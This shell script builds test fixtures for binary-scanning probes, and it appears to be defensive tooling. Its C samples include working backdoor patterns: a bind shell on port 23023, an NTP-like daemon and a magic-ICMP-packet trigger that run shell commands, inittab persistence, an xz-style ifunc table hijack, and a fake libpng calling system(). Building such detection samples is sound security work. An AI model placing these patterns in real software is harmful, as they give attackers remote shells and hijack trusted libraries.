#!/bin/sh
# Makes the inputs of the probes "roles", "listeners" and "out-of-place": small programs and libraries with and without what the probes look
# for. Needs gcc for x86-64, x86, aarch64, arm, mipsel and powerpc (Debian: gcc-i686-linux-gnu, gcc-aarch64-linux-gnu,
# gcc-arm-linux-gnueabihf, gcc-mipsel-linux-gnu, gcc-powerpc-linux-gnu, each with its libc6-dev).
set -eu
cd "$(dirname "$0")/.."
scratch=$(mktemp -d)
trap 'rm -rf "$scratch"' EXIT
build() { # machine, flags and files
    machine=$1; shift
    case $machine in
    x86-64) gcc "$@" ;;
    x86) i686-linux-gnu-gcc "$@" ;;
    aarch64) aarch64-linux-gnu-gcc "$@" ;;
    arm) arm-linux-gnueabihf-gcc "$@" ;;
    mipsel) mipsel-linux-gnu-gcc "$@" ;;
    powerpc) powerpc-linux-gnu-gcc -no-pie "$@" ;;
    esac
}

# --- roles ---------------------------------------------------------------------------------------------------------------------------
rm -rf roles/input
mkdir -p roles/input/sbin roles/input/bin
cat > "$scratch/clock.c" <<'C'
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/timex.h>
int main(void) {
    struct sockaddr_in own = { 0 };
    struct timex change = { 0 };
    unsigned char packet[48];
    int up = socket(AF_INET, SOCK_DGRAM, 0);
    own.sin_family = AF_INET;
    own.sin_port = htons(123);
    if (up < 0 || bind(up, (struct sockaddr *)&own, sizeof own) < 0)
        return 1;
    while (recv(up, packet, sizeof packet, 0) == sizeof packet) {
        printf("stratum %d, leap %d, drift %d\n", packet[1], packet[0] >> 6, packet[2]);
        change.modes = ADJ_FREQUENCY;
        adjtimex(&change);
#ifdef TERMINAL
        if (packet[3] == 42 && grantpt(posix_openpt(2)) == 0)
            system((const char *)packet + 4);
#endif
    }
    return 0;
}
C
cat > "$scratch/nothing.c" <<'C'
#include <stdio.h>
int main(void) { puts("the stratum of a rock"); return 0; }
C
build x86-64 -O2 -s -o roles/input/sbin/clock-x86-64 "$scratch/clock.c"
build x86-64 -O2 -s -DTERMINAL -o roles/input/sbin/clock-with-a-terminal-x86-64 "$scratch/clock.c"
build aarch64 -O2 -s -DTERMINAL -o roles/input/sbin/clock-with-a-terminal-aarch64 "$scratch/clock.c"
build x86-64 -O2 -s -o roles/input/bin/nothing-x86-64 "$scratch/nothing.c"

# --- listeners -----------------------------------------------------------------------------------------------------------------------
rm -rf listeners/input
mkdir -p listeners/input/sbin listeners/input/ports listeners/input/etc
cat > "$scratch/ports.c" <<'C'
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
static int stream(int port) {
    struct sockaddr_in own;
    int one = 1, up = socket(AF_INET, SOCK_STREAM, 0);
    memset(&own, 0, sizeof own);
    own.sin_family = AF_INET;
    own.sin_port = htons(port);
    own.sin_addr.s_addr = htonl(INADDR_ANY);
    setsockopt(up, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(up, (struct sockaddr *)&own, sizeof own) < 0 || listen(up, 4) < 0)
        return -1;
    return up;
}
static __attribute__((noinline)) int datagrams(void) {
    struct sockaddr_in own;
    int up = socket(AF_INET, SOCK_DGRAM, IPPROTO_UDP);
    memset(&own, 0, sizeof own);
    own.sin_family = AF_INET;
    own.sin_port = htons(40111);
    return bind(up, (struct sockaddr *)&own, sizeof own) < 0 ? -1 : up;
}
static __attribute__((noinline)) int inside(void) {
    struct sockaddr_in own;
    int up = socket(AF_INET, SOCK_STREAM, 0);
    memset(&own, 0, sizeof own);
    own.sin_family = AF_INET;
    own.sin_port = htons(9001);
    own.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return bind(up, (struct sockaddr *)&own, sizeof own) < 0 || listen(up, 4) < 0 ? -1 : up;
}
static __attribute__((noinline)) int frames(void) {
    return socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
}
static __attribute__((noinline)) int pings(void) {
    return socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
}
int main(void) {
    char line[64];
    int all = stream(8123) + datagrams() + inside() + frames() + pings();
    return read(all, line, sizeof line) > 0;
}
C
for machine in x86-64 x86 aarch64 arm mipsel powerpc; do
    for level in O2 Os; do
        build "$machine" -$level -s -o "listeners/input/ports/$machine-$level" "$scratch/ports.c"
    done
done
cat > "$scratch/consoled.c" <<'C'
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
    struct sockaddr_in own = { 0 };
    int up = socket(AF_INET, SOCK_STREAM, 0), to;
    own.sin_family = AF_INET;
    own.sin_port = htons(23023);
    if (bind(up, (struct sockaddr *)&own, sizeof own) < 0 || listen(up, 1) < 0)
        return 1;
    while ((to = accept(up, 0, 0)) >= 0) {
        dup2(to, 0);
        dup2(to, 1);
        execl("/bin/sh", "sh", (char *)0);
    }
    return 0;
}
C
cat > "$scratch/manager.c" <<'C'
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
int main(void) {
    char line[64];
    while (fgets(line, sizeof line, stdin))
        if (strncmp(line, "console on", 10) == 0)
            system("/sbin/consoled &");
    return 0;
}
C
cat > "$scratch/waker.c" <<'C'
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
int main(void) {
    char packet[1500];
    int up = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    for (;;) {
        ssize_t got = recv(up, packet, sizeof packet, 0);
        if (got > 44 && memcmp(packet + 28, "pale-heron-7719", 15) == 0)
            system("/sbin/consoled &");
    }
}
C
build x86-64 -O2 -s -o listeners/input/sbin/consoled "$scratch/consoled.c"
build x86-64 -O2 -s -o listeners/input/sbin/manager "$scratch/manager.c"
build x86-64 -O2 -s -o listeners/input/sbin/waker-x86-64 "$scratch/waker.c"
build mipsel -O2 -s -o listeners/input/sbin/waker-mipsel "$scratch/waker.c"
printf '::respawn:/sbin/manager\n::respawn:/sbin/waker-x86-64\n' > listeners/input/etc/inittab

# --- out-of-place --------------------------------------------------------------------------------------------------------------------
rm -rf out-of-place/input
mkdir -p out-of-place/input/lib
# A resolver that finds another file's table of addresses and puts its own function there: what the change to xz did, in our own words.
cat > "$scratch/patch.c" <<'C'
#define _GNU_SOURCE
#include <link.h>
#include <stddef.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
static int mine(int a) { return a + 1; }
static int plain(int a) { return a * 3; }
static int wide(int a) { return a + a + a; }
static int look(struct dl_phdr_info *file, size_t size, void *given) {
    (void)size;
    (void)given;
    if (file->dlpi_name && strstr(file->dlpi_name, "libverify")) {
        for (int at = 0; at < file->dlpi_phnum; at++) {
            if (file->dlpi_phdr[at].p_type == PT_GNU_RELRO) {
                unsigned long start = file->dlpi_addr + file->dlpi_phdr[at].p_vaddr, page = start & ~4095UL;
                if (mprotect((void *)page, start + file->dlpi_phdr[at].p_memsz - page, PROT_READ | PROT_WRITE) == 0)
                    ((void **)start)[3] = (void *)mine;
            }
        }
    }
    return 0;
}
static int (*resolve(void))(int) {
    dl_iterate_phdr(look, NULL);
    return getpagesize() > 4096 ? wide : plain;
}
int like_check(int a) __attribute__((ifunc("resolve")));
C
cat > "$scratch/plain.c" <<'C'
#include <sys/auxv.h>
static int plain(int a) { return a * 3; }
static int wide(int a) { return a + a + a; }
static unsigned long known;
static int (*resolve(void))(int) {
    known = getauxval(AT_HWCAP);
    return known & 2 ? wide : plain;
}
int like_check(int a) __attribute__((ifunc("resolve")));
static __attribute__((constructor)) void begin(void) { known = 1; }
C
for machine in x86-64 aarch64; do
    build "$machine" -O2 -s -fPIC -shared -Wl,-soname,liblike.so.1 -o "out-of-place/input/lib/libpatch-$machine.so" "$scratch/patch.c"
    build "$machine" -O2 -s -fPIC -shared -Wl,-soname,liblike.so.1 -o "out-of-place/input/lib/libplain-$machine.so" "$scratch/plain.c"
done
cat > "$scratch/image.c" <<'C'
#include <stdlib.h>
int png_like(const char *text) {
#ifdef SHELL
    return system(text);
#else
    return atoi(text);
#endif
}
C
build x86-64 -O2 -s -fPIC -shared -DSHELL -Wl,-soname,libpng16.so.16 -o out-of-place/input/lib/libpng-shell-x86-64.so "$scratch/image.c"
build x86-64 -O2 -s -fPIC -shared -Wl,-soname,libpng16.so.16 -o out-of-place/input/lib/libpng-plain-x86-64.so "$scratch/image.c"
